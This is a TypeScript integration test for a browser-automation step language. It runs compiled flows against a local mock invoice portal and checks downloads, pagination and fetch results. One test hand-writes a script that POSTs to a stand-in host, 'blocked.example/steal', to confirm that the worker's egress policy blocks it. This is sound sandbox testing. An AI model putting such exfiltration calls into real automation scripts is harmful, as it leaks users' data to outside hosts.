/**
 * The step language end to end: a flow using every step of issue 16 — select (by value and by label, from the job's
 * metadata), paginate, forEach with row fields, ifExists/else, download {saveAs}, downloadAll, fetch — is compiled by
 * the control plane's compiler, signed, and run by a real worker (redis-server, s3rver, Chromium) against a small
 * portal of this file: a search form, a results table of three pages, per-row XML downloads, a JSON endpoint and a
 * page of files. The evidence, the parsed data and the portal's own request log show what each step did.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { compileSteps } from '../../src/control-plane/flows/compile.ts';
import { setSession, signedJob, testOrg } from '../execution-plane/support/jobs.ts';
import { startWorkerHarness, type WorkerHarness } from '../execution-plane/support/worker-harness.ts';

/** WORKER_MAX_DOWNLOAD_BYTES of the test's worker, and a response over it. */
const MAX_DOWNLOAD_BYTES = 64 * 1024;
const BIG_BYTES = MAX_DOWNLOAD_BYTES + 1;
const PER_PAGE = 2;
const PAGES = 3;
/** The documents of February 2026, type factura: three pages of two. */
const DOCS = Array.from({ length: PER_PAGE * PAGES }, (_, i) => ({
  clave: `0202202601179000000000120010010000000${String(i + 1).padStart(2, '0')}12345678`,
  total: `${100 + i}.50`,
  credit: i % 3 === 0,
}));
const xmlOf = (clave: string) => `<?xml version="1.0" encoding="UTF-8"?>\n<factura><claveAcceso>${clave}</claveAcceso></factura>\n`;
const FILES = [{ name: 'reporte claves.txt', body: DOCS.map((d) => d.clave).join('\n') }, { name: 'resumen.csv', body: 'clave,total\n' }];

interface Portal { url: string; requests: string[]; fetched: Array<{ method: string; body: string; type: string }>; close(): Promise<void> }

function page(body: string): string {
  return `<!doctype html><html><head><title>Comprobantes</title></head><body>${body}</body></html>`;
}

async function startPortal(): Promise<Portal> {
  const requests: string[] = [];
  const fetched: Portal['fetched'] = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    requests.push(`${req.method} ${url.pathname}${url.search}`);
    const html = (body: string) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(page(body));
    };
    if (url.pathname === '/search') {
      // The search button navigates with what the two selects hold: the test sees what select chose.
      return html(`<form id="f" action="/results" method="get">
        <select id="month" name="month"><option value="01">Enero</option><option value="02">Febrero</option><option value="03">Marzo</option></select>
        <select id="type" name="type"><option value="1">Factura</option><option value="4">Nota de crédito</option></select>
        <input type="hidden" name="page" value="1"><button id="go" type="submit">Consultar</button></form>`);
    }
    if (url.pathname === '/results') {
      const n = Number(url.searchParams.get('page') ?? '1');
      const ok = url.searchParams.get('month') === '02' && url.searchParams.get('type') === '1';
      const rows = ok ? DOCS.slice((n - 1) * PER_PAGE, n * PER_PAGE) : [];
      const next = n < PAGES
        ? `<a id="next" href="/results?month=02&amp;type=1&amp;page=${n + 1}">Siguiente</a>`
        : '<button id="next" disabled>Siguiente</button>';
      return html(`<table id="results"><tbody>${rows.map((d) => `<tr>
          <td class="clave">${d.clave}</td><td class="total">${d.total}</td>
          <td>${d.credit ? '<span class="nc" data-kind="credit">NC</span>' : ''}<a class="xml" href="/xml/${d.clave}">XML</a></td></tr>`).join('')}
        </tbody></table><p id="page">${n}</p>${next}`);
    }
    if (url.pathname.startsWith('/xml/')) {
      const clave = url.pathname.slice('/xml/'.length);
      // The portal's own name differs from what the flow keeps (saveAs {{row.clave}}.xml).
      res.writeHead(200, { 'content-type': 'application/xml', 'content-disposition': 'attachment; filename="comprobante.xml"' });
      return res.end(xmlOf(clave));
    }
    if (url.pathname === '/api/authorisation') {
      let body = '';
      req.on('data', (d: Buffer) => { body += d.toString(); });
      req.on('end', () => {
        fetched.push({ method: req.method ?? '', body, type: req.headers['content-type'] ?? '' });
        const clave = (JSON.parse(body) as { clave: string }).clave;
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ clave, estado: 'AUTORIZADO', month: url.searchParams.get('month') }));
      });
      return;
    }
    if (url.pathname === '/big') {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      return res.end(Buffer.alloc(BIG_BYTES, 65));
    }
    if (url.pathname === '/api/ping') {
      res.writeHead(200, { 'content-type': 'application/json' });
      return res.end('{"ok":true}');
    }
    if (url.pathname === '/files') {
      return html(FILES.map((f, i) => `<a class="file" href="/file/${i}">${f.name}</a>`).join(' '));
    }
    if (url.pathname.startsWith('/file/')) {
      const f = FILES[Number(url.pathname.slice('/file/'.length))]!;
      res.writeHead(200, { 'content-type': 'text/plain', 'content-disposition': `attachment; filename="${f.name}"` });
      return res.end(f.body);
    }
    res.writeHead(404).end();
  });
  server.on('connection', (s: Socket) => { sockets.add(s); s.on('close', () => sockets.delete(s)); });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`, requests, fetched,
    close: () => new Promise<void>((resolve) => {
      for (const s of sockets) s.destroy();
      server.close(() => resolve());
    }),
  };
}

describe('the step language on a real worker', () => {
  let h: WorkerHarness;
  let portal: Portal;
  before(async () => {
    [h, portal] = await Promise.all([startWorkerHarness({
      WORKER_MAX_DOWNLOAD_BYTES: String(MAX_DOWNLOAD_BYTES),
      // Some thirty page round trips and sixteen files: room for a busy machine (the harness's default is 20 s).
      EXECUTION_TIMEOUT: '150000', PLAYWRIGHT_TIMEOUT: '30000',
    }), startPortal()]);
  });
  after(async () => {
    await Promise.all([h?.stop(), portal?.close()]);
  });

  it('runs select, paginate, forEach with row fields, ifExists, download {saveAs}, downloadAll and fetch as compiled', async () => {
    const base = portal.url;
    const { script } = compileSteps([
      { type: 'navigate', url: `${base}/search` },
      { type: 'select', selector: '#month', value: '{{metadata.month}}' },
      { type: 'select', selector: '#type', label: '{{metadata.typeLabel}}' },
      { type: 'click', selector: '#go' },
      { type: 'waitFor', selector: 'table#results' },
      { type: 'ifExists', selector: '#maintenance', steps: [{ type: 'handoff', reason: 'The portal is in maintenance' }],
        else: [{ type: 'extract', name: 'search', selector: 'body', fields: { firstPage: '#page' } }] },
      { type: 'paginate', next: '#next', maxPages: 10, steps: [
        { type: 'extract', name: 'rows', selector: 'table#results tbody tr', fields: { clave: 'td.clave', total: 'td.total' } },
        { type: 'forEach', selector: 'table#results tbody tr', fields: { clave: 'td.clave' }, steps: [
          { type: 'download', selector: 'a.xml', saveAs: '{{row.clave}}.xml' },
          { type: 'ifExists', selector: 'span.nc', steps: [
            { type: 'extract', name: 'credits', selector: 'span.nc', fields: { kind: { attribute: 'data-kind' } } },
          ] },
          { type: 'fetch', url: `${base}/api/authorisation?month={{metadata.month}}`, method: 'POST', contentType: 'application/json',
            body: '{"clave":"{{row.clave}}"}', saveAs: 'auth-{{row.clave}}.json' },
        ] },
      ] },
      { type: 'fetch', url: `${base}/api/ping` },
      { type: 'navigate', url: `${base}/files` },
      { type: 'downloadAll', selector: 'a.file' },
      { type: 'downloadAll', selector: 'a.file', saveAs: 'files-{{metadata.month}}-{{index}}.txt' },
    ], { id: 'demo', allowedHosts: ['127.0.0.1', 'localhost'] });

    const orgId = testOrg('steps');
    await setSession(h.redis, orgId, 'user-1', h.session());
    const r = await h.run(orgId, signedJob(orgId, script, { metadata: { month: '02', typeLabel: 'Factura' }, maxAttempts: 1 }), 180_000);
    assert.equal(r.status, 'done', JSON.stringify(r.error));

    // select: the search ran with the metadata's month (by value) and type (by label).
    assert.ok(portal.requests.includes('GET /results?month=02&type=1&page=1'), portal.requests.join('\n'));
    // paginate: every page once, and no click past the last (its next button is disabled).
    for (let n = 1; n <= PAGES; n++) assert.equal(portal.requests.filter((q) => q.startsWith('GET /results') && q.endsWith(`page=${n}`)).length, 1, `page ${n}`);

    const files = new Map((r.artifacts ?? []).filter((a) => a.kind === 'download').map((a) => [a.name, a]));
    // forEach + download {saveAs}: each row's XML under its access key, byte for byte.
    for (const d of DOCS) {
      const a = files.get(`${d.clave}.xml`);
      assert.ok(a, `${d.clave}.xml in ${[...files.keys()].join(', ')}`);
      assert.equal((await h.object(a.uri)).toString(), xmlOf(d.clave));
    }
    // fetch: made by the page, one POST per row with the row's key and the metadata in the URL, kept under saveAs.
    assert.deepEqual(portal.fetched.map((f) => JSON.parse(f.body) as unknown), DOCS.map((d) => ({ clave: d.clave })));
    assert.ok(portal.fetched.every((f) => f.method === 'POST' && f.type === 'application/json'));
    const auth = JSON.parse((await h.object(files.get(`auth-${DOCS[1]!.clave}.json`)?.uri)).toString()) as unknown;
    assert.deepEqual(auth, { clave: DOCS[1]!.clave, estado: 'AUTORIZADO', month: '02' });
    assert.ok(portal.requests.includes('GET /api/ping'));
    // downloadAll: the portal's names (sanitised), then the template's.
    assert.equal((await h.object(files.get('reporte_claves.txt')?.uri)).toString(), FILES[0]!.body);
    assert.equal((await h.object(files.get('resumen.csv')?.uri)).toString(), FILES[1]!.body);
    assert.equal((await h.object(files.get('files-02-1.txt')?.uri)).toString(), FILES[0]!.body);
    assert.equal((await h.object(files.get('files-02-2.txt')?.uri)).toString(), FILES[1]!.body);
    assert.equal(files.size, DOCS.length * 2 + 4, [...files.keys()].join(', '));

    // extract: in loops, rows accumulate across pages; inside a row, only that row's elements.
    const data = JSON.parse((await h.object(r.files.parsedData)).toString()) as Record<string, unknown>;
    assert.deepEqual(data['search'], [{ firstPage: '1' }]);
    assert.deepEqual(data['rows'], DOCS.map((d) => ({ clave: d.clave, total: d.total })));
    assert.deepEqual(data['credits'], DOCS.filter((d) => d.credit).map(() => ({ kind: 'credit' })));
  });

  it('fails the job with the missing metadata field named when a template has no value', async () => {
    const { script } = compileSteps([
      { type: 'navigate', url: `${portal.url}/search` },
      { type: 'select', selector: '#month', value: '{{metadata.month}}' },
    ], { id: 'demo', allowedHosts: ['127.0.0.1'] });
    const orgId = testOrg('steps-meta');
    await setSession(h.redis, orgId, 'user-1', h.session());
    const r = await h.run(orgId, signedJob(orgId, script, { metadata: { year: 2026 } }), 60_000);
    assert.equal(r.status, 'failed');
    assert.match(r.error?.message ?? '', /metadata has no value for month/);
  });

  it('makes helpers.fetch obey the egress policy and the download size limit, as the page\'s own requests do', async () => {
    // Hand-written: the compiler would refuse the host; a script still cannot reach it through the page.
    const script = `export default async function run({ page, payload, helpers }) {
  await page.goto(payload.base + '/search');
  try {
    await helpers.fetch('http://blocked.example/steal', { method: 'POST', body: 'x' });
    helpers.setResult({ blocked: 'no' });
  } catch (e) {
    helpers.setResult({ blocked: e.message });
  }
  await helpers.fetch(payload.base + '/big', { saveAs: 'big.bin' });
}
`;
    const orgId = testOrg('steps-fetch');
    await setSession(h.redis, orgId, 'user-1', h.session());
    const r = await h.run(orgId, signedJob(orgId, script, { metadata: { base: portal.url } }), 60_000);
    assert.equal(r.status, 'failed');
    assert.equal(r.error?.code, 'SCRIPT_RESOURCE_LIMIT', JSON.stringify(r.error));
    assert.match(r.error?.message ?? '', /helpers\.fetch: the response of GET http:\/\/127\.0\.0\.1:\d+\/big is over 65536 bytes/);
    assert.equal((r.artifacts ?? []).filter((a) => a.kind === 'download').length, 0, 'nothing kept');
    const data = JSON.parse((await h.object(r.files.parsedData)).toString()) as { blocked: string };
    assert.match(data.blocked, /helpers\.fetch: POST http:\/\/blocked\.example\/steal (failed in the page|answered 4\d\d)/);
  });
});
